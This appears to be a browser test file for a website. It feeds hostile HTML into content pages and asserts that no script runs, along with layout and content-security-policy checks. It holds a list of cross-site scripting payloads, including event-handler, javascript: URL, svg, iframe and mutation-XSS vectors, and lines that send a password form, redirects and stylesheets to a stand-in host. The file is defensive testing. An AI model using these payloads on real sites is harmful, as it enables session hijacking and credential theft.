import { ELEMENT_IDS } from '../contract/constants.ts';
import { paths } from '../contract/paths.ts';
import { fakePaths, withExternalSite } from './fakeContentApi.ts';
import { siteUrl, visit, widths } from './visit.ts';
import { goInside } from './pageSteps.ts';

const PWN = "window.pwned=(window.pwned||'')+'";

/** Each script that runs adds its number to `window.pwned`. */
const VECTORS = [
  `<script>${PWN}1 '</script>`,
  `<img src="/no-such.png" onerror="${PWN}2 '"><p onclick="${PWN}3 '" onmouseover="${PWN}4 '">Hover</p>`,
  `<p><a href="javascript:${PWN}5 '">Link</a> <a href=" java&#9;script:${PWN}6 '">Link</a></p>`,
  `<svg onload="${PWN}7 '"><script>${PWN}8 '</script><a xlink:href="javascript:${PWN}9 '"><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.pwned='10 '</script>"></iframe><iframe src="javascript:parent.pwned='11 '"></iframe>`,
  `<style>body{display:none !important}@import '//evil.invalid/x.css';</style>`,
  `<base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/">`,
  `<link rel="stylesheet" href="https://evil.invalid/x.css"><object data="javascript:${PWN}12 '"></object><embed src="javascript:${PWN}13 '">`,
  `<form action="https://evil.invalid/"><input name="password" autofocus onfocus="${PWN}14 '"><button>Send</button></form>`,
  `<details open ontoggle="${PWN}15 '"><summary>More</summary></details><video><source onerror="${PWN}16 '"></video>`,
  `<math><mtext><table><mglyph><style><img src onerror="${PWN}17 '"></style></mglyph></table></mtext></math>`,
  `<p style="position:fixed;inset:0;background:url(https://evil.invalid/)" id="root" class="x">Overlay</p>`,
  `</div></main></body><h1>Second title</h1><table><p>Foster</table><b><p>Mis</b>nested</p><p>one<p>two`,
];

const NESTING = 20_000;
const nested = `${'<div><b>'.repeat(NESTING / 2)}Deep${'</b></div>'.repeat(NESTING / 2)}`;
// The nested tags come last, because content is cut after a maximum number of tags.
const content = `<p>First paragraph</p>${VECTORS.join('')}<h2 id="end">Last heading</h2>${nested}`;
const text = `</title></script><script>${PWN}18 '</script><img src=x onerror="${PWN}19 '">`;

const payload = {
  id: 1,
  title: text,
  description: content,
  content,
  headings: [{ id: 'end', text, level: 2 }],
  author: { name: text, bio: text, profile_photo: `javascript:${PWN}20 '` },
  tags: [text],
  category: text,
  cover_photo: `javascript:${PWN}21 '`,
  faqs: [{ id: 1, question: text, answer: content }],
  presented_by: text,
};

const POST_CALL = '/landing/blogs/post-1';
const PAGES: [string, string][] = [
  [fakePaths.post, POST_CALL],
  [fakePaths.article, '/help-center/topic/set-up-a-rotation'],
  [fakePaths.event, '/webinars/events/rotation'],
  [paths.privacyPolicy, '/legal-documents/privacy-policy'],
];

const external = withExternalSite(Object.fromEntries(PAGES.map(([, call]) => [call, { payload }])));

/** Images and videos of the content do not exist. */
const visitExternal = (path: string, test: Parameters<typeof visit>[2]) =>
  visit(path, { site: external.site.url, expectedMessages: /status of 404/ }, test);

const readState = () => {
  const main = document.querySelector('main')!;
  const count = (selector: string) => main.querySelectorAll(selector).length;
  return {
    pwned: (window as { pwned?: string }).pwned,
    hasTitle: document.title.length > 0,
    h1: document.querySelectorAll('h1').length,
    active: count('script, style, iframe, object, embed, base, meta, link, math'),
    handlers: [...main.querySelectorAll('*')].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith('on')),
    ).length,
    foreign: count(
      '[href^="javascript" i], [src^="javascript" i], [href*="evil.invalid"], [style*="evil.invalid"], #root',
    ),
    fields: count('input[name=password]'),
    isVisible: getComputedStyle(document.body).display !== 'none',
    isComplete: ['First paragraph', 'Last heading'].every((part) => main.innerText.includes(part)),
    isFlat: count(`${'div '.repeat(150)}b`) === 0,
  };
};

const HARMLESS: ReturnType<typeof readState> = {
  pwned: undefined,
  hasTitle: true,
  h1: 1,
  active: 0,
  handlers: 0,
  foreign: 0,
  fields: 0,
  isVisible: true,
  isComplete: true,
  isFlat: true,
};

it('runs no script from hostile content, rendered on the server or in the browser', () =>
  visitExternal(paths.about, async ({ page, ready }) => {
    for (const [path] of PAGES) {
      await goInside(page, path);
      await page.getByRole('heading', { name: 'Last heading' }).first().waitFor();
      expect({ path, ...(await page.evaluate(readState)) }).toEqual({ path, ...HARMLESS });
    }
    for (const [path] of PAGES) {
      await page.goto(path);
      await ready();
      expect({ path, ...(await page.evaluate(readState)) }).toEqual({ path, ...HARMLESS });
      for (const name of ['Hover', 'Link', 'More']) {
        const target = page.getByRole('main').getByText(name, { exact: true }).first();
        if ((await target.count()) > 0) await target.click();
      }
      expect({ path, ...(await page.evaluate(readState)) }).toEqual({ path, ...HARMLESS });
      expect(page.url()).toContain(external.site.url + path);
    }
  }));

/** Names that scripts read from `window`, which also has a property for each element id. */
const GLOBAL_NAMES = [
  ...['__REDUX_DEVTOOLS_EXTENSION__', '__REDUX_DEVTOOLS_EXTENSION_COMPOSE__', '_R_1_', 'process'],
  ...['__chunks', 'webpackChunkhearthline_website', '__earlyClick', 'earlyClick', 'navigation'],
  ...['__REACT_DEVTOOLS_GLOBAL_HOOK__', '__zod_globalConfig', 'scheduler', 'trustedTypes'],
  'define',
];
const json = '{"site":{},"queryCache":{},"slices":{},"failed":true}';
const headingsWithIds = [...Object.values(ELEMENT_IDS), ...GLOBAL_NAMES]
  .flatMap((id) => [
    `<h2>${id.replaceAll('-', ' ')}</h2>`,
    `<h2 id="${id}">${json}</h2>`,
    `<h3 id="${id.toUpperCase()}">${id}</h3>`,
  ])
  .join('');

it('becomes interactive when headings have the ids of our own elements and globals', () => {
  external.api.answer(POST_CALL, {
    payload: { ...payload, content: headingsWithIds, headings: [] },
  });
  return visitExternal(fakePaths.post, async ({ page }) => {
    const ids = await page.evaluate(() =>
      [...document.querySelectorAll('[id]')].map((element) => element.id),
    );
    expect(new Set(ids).size).toBe(ids.length);
    await page.getByRole('link', { name: 'Skip' }).focus();
    await page.keyboard.press('Enter');
    expect(await page.locator('main:focus').count()).toBe(1);
  });
});

const LONG_WORD = 'Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichen';
const integration = { id: 1, name: LONG_WORD, description: LONG_WORD.repeat(3) };
const plan = {
  name: LONG_WORD,
  description: LONG_WORD.repeat(2),
  monthlyPrice: 1_234_567.89,
  features: { users: { type: 'tiered', name: 'Users', value: LONG_WORD } },
};
const ordinary = { ...plan, name: 'Team', description: 'A plan.', monthlyPrice: 40 };
const catalog = {
  plans: [plan, { ...ordinary, isPopular: true }, ...Array<object>(5).fill(ordinary)],
  features: [{ key: 'users', name: LONG_WORD }],
};

it('fits integrations and plans with long words', () => {
  external.api.answer('/integrations', { payload: Array(7).fill(integration) });
  external.api.answer('/plans', { payload: catalog });
  return visitExternal(paths.integrations, async ({ page, ready }) => {
    for (const path of [paths.integrations, paths.allIntegrations, paths.pricing]) {
      await page.goto(path);
      await ready();
      for (const width of [320, widths.tablet, widths.laptop, widths.desktop]) {
        await page.setViewportSize({ width, height: 900 });
        const actual = await page.evaluate(() => document.documentElement.scrollWidth);
        expect({ path, actual }).toEqual({ path, actual: width });
      }
    }
  });
});

it('allows images and videos from any https address, and frames of YouTube', async () => {
  const { headers } = await fetch(siteUrl());
  const policy = headers.get('content-security-policy') ?? '';
  for (const directive of ['img-src', 'media-src'])
    expect(policy).toMatch(new RegExp(`(?:^|; )${directive} [^;]*https:(?:;| )`));
  expect(policy).toContain('frame-src https://www.youtube-nocookie.com');
});
